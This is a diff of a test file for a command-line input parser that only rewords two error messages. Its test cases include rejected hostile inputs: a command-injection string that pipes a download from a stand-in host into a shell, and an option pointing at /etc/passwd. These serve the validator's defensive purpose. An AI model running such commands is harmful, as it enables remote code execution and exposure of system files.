@@ -189,7 +189,7 @@ describe('the input command', () => {
     ['apply; curl https://x.example | sh', 'which is not supported here; expected plan, validate, apply'],
     [
       'apply --plan /etc/passwd',
-      'which has an option that is not supported; apply takes --environment, --selector, --exclude, --changed-since, --allow-older',
+      'which has an option that is not supported; apply accepts --environment, --selector, --exclude, --changed-since, --allow-older',
     ],
     ['apply --overwrite', 'which has an option that is not supported'],
     ['update web --to a --to b', 'which has --to more than once'],
@@ -206,7 +206,7 @@ describe('the input command', () => {
     ['update front-desk --field PATH', 'which has PATH in it; put the value in its place'],
     [
       'update front-desk --dry-run',
-      'has an option that is not supported; update takes --environment, --selector, --exclude, --field, --yes',
+      'has an option that is not supported; update accepts --environment, --selector, --exclude, --field, --yes',
     ],
     [
       'import camp_1 camp_2 --name a',
